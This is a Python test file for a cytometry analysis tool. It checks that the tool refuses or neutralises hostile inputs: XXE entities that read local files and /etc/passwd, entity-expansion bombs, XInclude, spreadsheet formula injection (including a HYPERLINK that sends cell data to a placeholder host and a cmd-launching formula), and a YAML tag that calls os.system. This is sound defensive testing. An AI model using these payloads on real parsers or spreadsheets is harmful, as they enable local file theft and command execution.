"""Hostile inputs: XML with entities (XXE, expansion bombs), oversize documents, workspaces that
name files elsewhere, and spreadsheets typed at 2 a.m."""
import datetime as dt
import shutil
import sys
from pathlib import Path

import pytest
from lxml import etree

import cytomnt
from gating.formats import xmlsafe
from gating.formats.strategy import StrategyError, WorkspaceStrategies, read_gatingml

from cytomnt.cli import main
from cytomnt.errors import ConfigError
from cytomnt.patients.clinical import ClinicalDataError, load, read_labs

from .conftest import FIXTURES, shared

SECRET = "TOP-SECRET-7f3a9c"
RECT = ('<gating:RectangleGate gating:id="{gid}"><gating:dimension gating:compensation-ref="uncompensated" '
        'gating:min="0"><data-type:fcs-dimension data-type:name="FSC-A"/></gating:dimension></gating:RectangleGate>')
NS = ('xmlns:gating="http://www.isac-net.org/std/Gating-ML/v2.0/gating" '
      'xmlns:data-type="http://www.isac-net.org/std/Gating-ML/v2.0/datatypes"')


def xxe_doc(secret_file) -> str:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE gml [<!ENTITY xxe SYSTEM "file://{secret_file}">]>\n'
            f'<gating:Gating-ML {NS}><data-type:custom_info>&xxe;</data-type:custom_info>'
            + RECT.format(gid="g1") + "</gating:Gating-ML>")


@pytest.fixture
def secret_file(tmp_path):
    p = tmp_path / "secret.txt"
    p.write_text(SECRET)
    return p


def test_xxe_pointing_at_a_local_file_is_refused(tmp_path, secret_file, capsys):
    doc = tmp_path / "evil.xml"
    doc.write_text(xxe_doc(secret_file))
    with pytest.raises(StrategyError, match=r"evil.xml, line 2: refused: it declares '<!DOCTYPE'") as e:
        read_gatingml(doc)
    assert SECRET not in str(e.value)
    out = tmp_path / "out"
    assert main(["analyze", str(FIXTURES / "csf_bd.fcs"), "--strategy", str(doc), "--out", str(out)]) == 2
    logs = capsys.readouterr()
    assert "refused" in logs.err and SECRET not in logs.err + logs.out
    assert not out.exists() or all(SECRET.encode() not in f.read_bytes() for f in out.rglob("*") if f.is_file())


def test_refused_whatever_lxmls_global_defaults_are(tmp_path, secret_file):
    doc = tmp_path / "evil.xml"
    doc.write_text(xxe_doc(secret_file))
    old = etree.get_default_parser()
    etree.set_default_parser(etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False))
    try:
        # the permissive global parser would read the file...
        assert SECRET in etree.tostring(etree.parse(str(doc))).decode()
        # ...but the document never reaches it
        with pytest.raises(StrategyError, match="DOCTYPE"):
            read_gatingml(doc)
    finally:
        etree.set_default_parser(old)


def test_entity_bomb_utf16_and_xinclude_are_refused(tmp_path):
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
           + f']><gating:Gating-ML {NS}>&lol9;</gating:Gating-ML>')
    with pytest.raises(xmlsafe.UnsafeXMLError, match="DOCTYPE"):
        xmlsafe.checked_xml(lol.encode())
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
    with pytest.raises(xmlsafe.UnsafeXMLError, match="DOCTYPE"):
        xmlsafe.checked_xml(utf16.encode("utf-16"))
    xi = f'<gating:Gating-ML {NS} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></gating:Gating-ML>'
    with pytest.raises(xmlsafe.UnsafeXMLError, match="XInclude"):
        xmlsafe.checked_xml(xi.encode())
    with pytest.raises(xmlsafe.UnsafeXMLError, match="not well-formed"):
        xmlsafe.checked_xml(b"<a><b></a>")


def test_oversize_documents_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(xmlsafe, "MAX_XML_BYTES", 1000)
    doc = tmp_path / "big.xml"
    doc.write_text(f"<gating:Gating-ML {NS}>" + RECT.format(gid="g1") * 40 + "</gating:Gating-ML>")
    with pytest.raises(StrategyError, match=r"big.xml: .* MiB is over the 0 MiB limit"):
        read_gatingml(doc)


def test_workspace_with_entities_is_refused(tmp_path, secret_file):
    d = shared("flowjo_workspaces") / "simple_line_example"
    text = (d / "simple_poly_and_rect.wsp").read_text()
    evil = tmp_path / "evil.wsp"
    evil.write_text(text.replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
                                 f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w [<!ENTITY x SYSTEM '
                                 f'"file://{secret_file}">]>', 1))
    with pytest.raises(StrategyError, match="DOCTYPE"):
        WorkspaceStrategies(evil)


def test_workspace_never_opens_the_files_it_names(tmp_path):
    d = shared("flowjo_workspaces") / "simple_line_example"
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.copy(d / "data_set_simple_line_100.fcs", outside / "data_set_simple_line_100.fcs")
    wsp = (d / "simple_poly_and_rect_v2_poly50.wsp").read_text()
    import re
    wsp = re.sub(r'uri="[^"]*"', f'uri="file://{outside}/data_set_simple_line_100.fcs"', wsp)
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    shutil.copy(d / "data_set_simple_line_100.fcs", inputs / "data_set_simple_line_100.fcs")
    (inputs / "w.wsp").write_text(wsp)
    opened = []

    def hook(event, args):
        if event == "open" and args and isinstance(args[0], (str, bytes)):
            opened.append(str(args[0]))
    sys.addaudithook(hook)
    df = cytomnt.analyze([inputs / "data_set_simple_line_100.fcs"], strategy=inputs / "w.wsp")
    assert df.status[0] == "ok"
    assert any(p.startswith(str(inputs)) and p.endswith(".fcs") for p in opened)   # the hook sees opens
    assert not [p for p in opened if str(outside) in p], "a path named by the workspace was opened"


# -- clinical data typed at 2 a.m. -------------------------------------------------------------

HEAD = ("patient_id,product,infusion_date,bridging_response,bmpc_pct,m_spike_g_dl,sflc_mg_l,ferritin_ng_ml,"
        "crs_max_grade,icans_max_grade,prior_bcma_bispecific\n")


def test_comma_decimals_are_refused_not_guessed(tmp_path):
    (tmp_path / "c.csv").write_text(HEAD + 'P1,cilta-cel,2026-01-01,PR,"85,5",,,,,,\n')
    with pytest.raises(ClinicalDataError, match=r"row 2, column bmpc_pct: '85,5' has a comma"):
        load(tmp_path / "c.csv")
    (tmp_path / "c.csv").write_text(HEAD + "P1,cilta-cel,2026-01-01,PR,,,,,,,\n")
    (tmp_path / "l.csv").write_text('patient_id,date,alc_k_per_ul\nP1,2026-01-12,"3,500"\n')
    with pytest.raises(ClinicalDataError, match="'3,500' has a comma"):
        load(tmp_path / "c.csv", tmp_path / "l.csv")


def test_future_dates_and_mixed_formats(tmp_path):
    (tmp_path / "c.csv").write_text(HEAD + "P1,cilta-cel,2026-01-01,PR,,,,,,,\n")
    (tmp_path / "l.csv").write_text("patient_id,date,alc_k_per_ul\nP1,2026-01-05,0.4\nP1,09.01.2026,1.9\n"
                                    "P1,2026/01/13,3.6\n")
    data = load(tmp_path / "c.csv", tmp_path / "l.csv", today=dt.date(2026, 11, 26))
    assert [str(d) for d in data.labs.date] == ["2026-01-05", "2026-01-09", "2026-01-13"]
    with pytest.raises(ClinicalDataError, match="in the future"):
        load(tmp_path / "c.csv", tmp_path / "l.csv", today=dt.date(2026, 1, 10))
    (tmp_path / "c2.csv").write_text(HEAD + "P1,cilta-cel,2031-01-01,PR,,,,,,,\n")
    with pytest.raises(ClinicalDataError, match="infusion_date: 2031-01-01 is in the future"):
        load(tmp_path / "c2.csv", today=dt.date(2026, 11, 26))


def test_implausibly_low_alc_is_flagged(tmp_path):
    (tmp_path / "c.csv").write_text(HEAD + "P1,cilta-cel,2026-01-01,PR,,,,,,,\n")
    (tmp_path / "l.csv").write_text("patient_id,date,alc_k_per_ul\nP1,2026-01-05,0.0035\n")
    data = load(tmp_path / "c.csv", tmp_path / "l.csv")
    assert any("below 5 cells/uL" in w for w in data.warnings)
    assert read_labs(tmp_path / "l.csv").alc_k_per_ul[0] == 0.0035


def test_bad_clinical_input_is_an_error_not_a_different_tier(tmp_path):
    (tmp_path / "c.csv").write_text(HEAD + "P1,cilta-cel,2026-01-01,PR,,,,,,,\n")
    (tmp_path / "l.csv").write_text("patient_id,date,alc_k_per_ul\nP1,2026-01-05,1.2\nP1,2026-01-12,3500\n")
    with pytest.raises(ClinicalDataError):
        load(tmp_path / "c.csv", tmp_path / "l.csv")
    with pytest.raises(ConfigError):
        cytomnt.analyze([FIXTURES / "csf_bd.fcs"], strategy=tmp_path / "missing.xml")


def test_hostile_names_and_keywords_never_become_spreadsheet_formulas(tmp_path):
    """A file named '=cmd.fcs' whose $SRC and $CYT hold formulas: every text cell of every CSV starts
    with something a spreadsheet shows as text (the OWASP apostrophe), numbers stay numbers, and the
    workbook holds no formula cell."""
    import csv

    import openpyxl

    import cytomnt
    from cytomnt.synth import TubeSpec, write_tube
    hostile = {"$SRC": '=HYPERLINK("http://x.invalid/?"&A1,"click")', "$CYT": "@SUM(1+1)*cmd|/C calc!A0",
               "TUBE NAME": "-2+3", "OPERATOR": "+cmd"}
    write_tube(tmp_path / "in" / "=cmd.fcs", TubeSpec(events=20_000, car_frac_of_t=0.1, extra_keywords=hostile), 5)
    out = tmp_path / "out"
    cytomnt.analyze([tmp_path / "in"], out=out, keywords="$SRC,$CYT,TUBE NAME,OPERATOR", xlsx=True, jobs=1)
    for table in ("samples", "populations", "statistics", "errors"):
        rows = list(csv.reader((out / f"{table}.csv").open()))
        for row in rows:
            for cell in row:
                if cell and cell[0] in "=+@\t\r":
                    raise AssertionError((table, cell))
                if cell.startswith("-"):
                    float(cell)                      # a minus only on numbers
    samples = list(csv.DictReader((out / "samples.csv").open()))
    assert samples[0]["sample_id"] == "'=cmd" and samples[0]["file"].endswith("=cmd.fcs")
    assert any(v.startswith("'=HYPERLINK") for v in samples[0].values())
    assert float(samples[0]["events"]) > 0 and float(samples[0]["t_cells"]) > 0
    wb = openpyxl.load_workbook(out / "statistics.xlsx")
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert not formulas, formulas[:5]
    assert any(c.value == "=cmd" for ws in wb for row in ws.iter_rows() for c in row)     # shown as written


def test_yaml_is_read_safely_and_as_the_pure_python_loader_reads_it():
    """The C loader (when PyYAML has libyaml) gives the built-in files' very values, refuses
    Python objects, and reports a bad document's line."""
    from importlib import resources

    import yaml

    from gating.io.yamlsafe import safe_load
    texts = [resources.files("cytomnt").joinpath(f"data/{n}").read_text()
             for n in ("car_t_template.yaml", "default_panel.yaml", "mnt_rules.yaml")]
    texts += [p.read_text() for p in (Path(__file__).parent / "data").glob("*.yaml")]
    assert len(texts) >= 4
    for text in texts:
        assert safe_load(text) == yaml.load(text, Loader=yaml.SafeLoader)
    with pytest.raises(yaml.YAMLError):
        safe_load("x: !!python/object/apply:os.system ['echo no']\n")
    with pytest.raises(yaml.YAMLError) as bad:
        safe_load("gates:\n  - population: a\n    parent: [root\n")
    assert bad.value.problem_mark.line >= 1
